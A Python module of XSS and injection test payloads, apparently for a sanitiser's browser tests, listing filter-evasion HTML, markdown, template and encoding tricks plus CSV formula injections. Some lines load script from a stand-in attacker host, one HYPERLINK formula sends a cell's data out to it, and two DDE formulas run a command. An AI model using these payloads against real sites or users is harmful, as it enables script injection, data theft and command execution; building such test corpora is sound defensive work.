"""The XSS corpus: the constructs browsers run, in the forms filters miss. Each payload calls `__xss()` or opens
a dialog (`alert`, `confirm`, `prompt`), which the browser test watches for; the last ones are the formulas a
spreadsheet would run from a CSV export."""

from __future__ import annotations

_ACTIONS = ("alert(1)", "__xss()", "confirm`1`", "prompt(document.domain)")

_TAGS = [
    "<script>{a}</script>",
    "<SCRIPT SRC=//attaquant.example/x.js></SCRIPT>",
    "<script\x20type=text/javascript>{a}</script>",
    "<scr<script>ipt>{a}</scr</script>ipt>",
    "<img src=x onerror={a}>",
    '<img src=x onerror="{a}">',
    "<img/src=x/onerror={a}>",
    "<IMG SRC=javascript:{a}>",
    "<img src=`x`onerror={a}>",
    '<img src="x" alt="" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    "<svg onload={a}>",
    "<svg><script>{a}</script></svg>",
    "<svg><animate onbegin={a} attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{a}"><text x=20 y=20>clic</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror={a}>",
    "<body onload={a}>",
    '<iframe src="javascript:{a}"></iframe>',
    '<iframe srcdoc="<script>{a}</script>"></iframe>',
    '<object data="javascript:{a}"></object>',
    '<embed src="javascript:{a}">',
    "<details open ontoggle={a}>",
    "<video><source onerror={a}></video>",
    "<audio src=x onerror={a}>",
    "<input autofocus onfocus={a}>",
    "<select autofocus onfocus={a}>",
    "<textarea autofocus onfocus={a}>",
    "<marquee onstart={a}>",
    '<div style="background:url(javascript:{a})">',
    '<div style="width:expression({a})">',
    '<a href="javascript:{a}">clic</a>',
    '<a href="JaVaScRiPt:{a}">clic</a>',
    '<a href="&#106;avascript:{a}">clic</a>',
    '<a href="java&#x09;script:{a}">clic</a>',
    '<a href=" &#14; javascript:{a}">clic</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">clic</a>',
    '<a href="vbscript:msgbox(1)">clic</a>',
    '<form action="javascript:{a}"><button>Envoyer</button></form>',
    '<button formaction="javascript:{a}">Envoyer</button>',
    '<base href="javascript:{a}//">',
    '<meta http-equiv="refresh" content="0;url=javascript:{a}">',
    "<link rel=import href=//attaquant.example/x.html>",
    "<style>@import 'javascript:{a}';</style>",
    '<noscript><p title="</noscript><img src=x onerror={a}>">',
    '<!--<img src="--><img src=x onerror={a}//">',
    "<![CDATA[><img src=x onerror={a}>]]>",
    "<template><img src=x onerror={a}></template>",
    "<xmp><img src=x onerror={a}></xmp>",
    '<div hx-get="/deconnexion" hx-trigger="load">htmx</div>',
    '<div hx-on:click="{a}">htmx</div>',
    '<a href="#" onclick="{a}">clic</a>',
    '<div onmouseover="{a}">survol</div>',
    "<p onpointerenter={a}>survol</p>",
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
    "<img src=x onerror=window['al'+'ert'](1)>",
    "<img src=x onerror=top[/al/.source+/ert/.source](1)>",
    "<svg/onload=location='javascript:'+'{a}'>",
]

_ATTRIBUTE_BREAKOUTS = [
    '" onmouseover="{a}" x="',
    "' onmouseover='{a}' x='",
    '"><script>{a}</script>',
    "'><script>{a}</script>",
    '" autofocus onfocus="{a}" x="',
    '"></textarea><script>{a}</script>',
    "</title><script>{a}</script>",
    "</script><script>{a}</script>",
    '"><img src=x onerror={a}>',
    '\\"><img src=x onerror={a}>',
]

_MARKDOWN = [
    "[clic](javascript:{a})",
    "[clic](JAVASCRIPT:{a})",
    "[clic]( javascript:{a} )",
    "[clic](<javascript:{a}>)",
    "[clic](javascript&#58;{a})",
    "[clic](javas&#99;ript:{a})",
    "[clic](java\\script:{a})",
    "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[clic](vbscript:msgbox(1))",
    "![image](javascript:{a})",
    '![image](x" onerror="{a})',
    "![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[clic][ref]\n\n[ref]: javascript:{a}",
    '[clic](https://exemple.fr "title" onmouseover="{a}")',
    "<javascript:{a}>",
    "[<img src=x onerror={a}>](https://exemple.fr)",
    "`<script>{a}</script>`",
    "```html\n<script>{a}</script>\n```",
    "> <img src=x onerror={a}>",
    "| a | b |\n|---|---|\n| <img src=x onerror={a}> | [x](javascript:{a}) |",
    "**<svg onload={a}>**",
]

_TEMPLATES_AND_ENCODINGS = [
    "{{7*7}}",
    "{{ config }}",
    "{% for x in range(3) %}{{x}}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('{a}')()}}",
    "%3Cscript%3E{a}%3C%2Fscript%3E",
    "&lt;script&gt;{a}&lt;/script&gt;",
    "&#60;script&#62;{a}&#60;/script&#62;",
    "\\u003cscript\\u003e{a}\\u003c/script\\u003e",
    "\uff1cscript\uff1e{a}\uff1c/script\uff1e",
    "<scr\u200bipt>{a}</scr\u200bipt>",
    "\u202e<script>{a}</script>",
    "<img src=x onerror\u000c={a}>",
    "<img src=x\u3000onerror={a}>",
    "javascript:{a}",
    "data:text/html,<script>{a}</script>",
    # Spreadsheet formulas, for the CSV exports.
    '=HYPERLINK("https://attaquant.example/?"&A1,"Cliquez")',
    "+{a}",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _corpus() -> list[str]:
    payloads: list[str] = []
    templates = [*_TAGS, *_ATTRIBUTE_BREAKOUTS, *_MARKDOWN, *_TEMPLATES_AND_ENCODINGS]
    for number, template in enumerate(templates):
        payloads.append(template.replace("{a}", _ACTIONS[number % len(_ACTIONS)]))
    return list(dict.fromkeys(payloads))


PAYLOADS = _corpus()
